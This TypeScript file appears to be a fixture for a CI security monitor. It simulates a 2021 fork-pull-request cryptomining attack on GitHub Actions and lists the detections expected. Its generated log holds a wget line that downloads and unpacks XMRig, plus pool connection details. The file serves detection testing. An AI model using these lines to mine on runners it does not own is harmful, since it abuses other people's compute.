import { attackLog, attackRun, benignLinesOf, endOf, HOUR_MS, lastRunOf, type Incident } from './incident.js';

/** Illustrative pool and miner version: the reports name XMRig and Monero, not these. */
const POOL = { host: 'pool.minexmr.com', port: 4444 };
const XMRIG = 'XMRig/6.11.2';

/**
 * Crypto-mining from fork pull requests, spring 2021. Attackers opened pull
 * requests from forks whose workflow changes downloaded and ran XMRig on the
 * upstream project's runners until the job timed out (GitHub and Justin Perdok
 * reported about 95 repositories hit in one wave). No secrets are involved:
 * `pull_request` from a fork gets none. A monitor sees: a run lasting the full
 * six-hour limit, CPU at every core for all of it, a new binary, a connection to
 * a pool, and the miner's own banner and hashrate lines in the log.
 */
export const forkPrMiner: Incident = {
  id: 'fork-pr-cryptomining-2021',
  title: 'Fork pull request runs XMRig on the project runners until the job times out',
  when: '2021-04',
  sources: [
    'https://github.blog/2021-04-22-github-actions-update-helping-maintainers-combat-bad-actors/',
    'https://www.infoq.com/news/2021/04/GitHub-actions-cryptomining/',
    'https://bcfocus.com/against-cryptocurrency-mining-on-github-shares/',
  ],
  expected: [
    { anyOf: ['resource.duration.high'], via: 'run', sees: 'the six-hour timeout' },
    { anyOf: ['resource.cpu.high'], via: 'run', sees: 'every core busy for six hours' },
    { anyOf: ['access.egress.new_host', 'access.egress.unusual_port'], via: 'run', sees: 'the stratum connection' },
    { anyOf: ['log.miner'], via: 'log', sees: "XMRig's banner and hashrate lines" },
  ],
  weeks: 4,
  shape: {
    ecosystem: 'node',
    jobs: ['build', 'test', 'lint'],
    customize(repo) {
      repo.forkShare = 0.3;
    },
  },
  inject(history, { rng }) {
    const template = lastRunOf(history, 'test', (event) => event.run.trigger === 'pull_request');
    const run = attackRun(template, this.id, 0, endOf(history) + 7 * HOUR_MS, rng, (event) => {
      event.run.actor = 'miner-bot-1337';
      event.run.from_fork = true;
      event.run.branch = 'miner-bot-1337:patch-1';
      event.run.status = 'failure';
      // pull_request from a fork: GitHub withholds secrets and hands a read-only token.
      event.access!.secrets = [];
      event.access!.permissions = { contents: 'read' };
      event.resources!.duration_s = 6 * 3600;
      event.resources!.cpu_s = 2 * 6 * 3600;
      event.access!.processes!.push({ exe: '/home/runner/work/xmrig-6.11.2/xmrig', parent: '/usr/bin/bash' });
      event.access!.egress!.push({ host: 'github.com', port: 443 }, { host: POOL.host, port: POOL.port });
    });
    const stamp = (minute: number) => `[2021-04-02 10:${String(minute).padStart(2, '0')}:0${minute % 10}.${rng.int(100, 999)}]`;
    const miner = [
      'wget -q https://github.com/xmrig/xmrig/releases/download/v6.11.2/xmrig-6.11.2-linux-x64.tar.gz && tar xf xmrig-6.11.2-linux-x64.tar.gz',
      ` * ABOUT        ${XMRIG} gcc/9.3.0`,
      ' * CPU          Intel(R) Xeon(R) Platinum 8272CL CPU @ 2.60GHz (1) 64-bit AES',
      ` * POOL #1      ${POOL.host}:${POOL.port} algo auto`,
      `${stamp(0)}  net      use pool ${POOL.host}:${POOL.port}  88.99.142.163`,
      `${stamp(0)}  cpu      use profile  rx  (2 threads) scratchpad 2048 KB`,
      ...Array.from({ length: 20 }, (_, i) => `${stamp(i + 1)}  miner    speed 10s/60s/15m ${rng.float(900, 1300).toFixed(1)} ${rng.float(900, 1300).toFixed(1)} n/a H/s max ${rng.float(1300, 1400).toFixed(1)} H/s`),
      '##[error]The job running on runner GitHub Actions 12 has exceeded the maximum execution time of 360 minutes.',
    ];
    return [...history, attackLog(run, [...benignLinesOf(history, template).slice(0, 12), ...miner], this.id), run];
  },
};
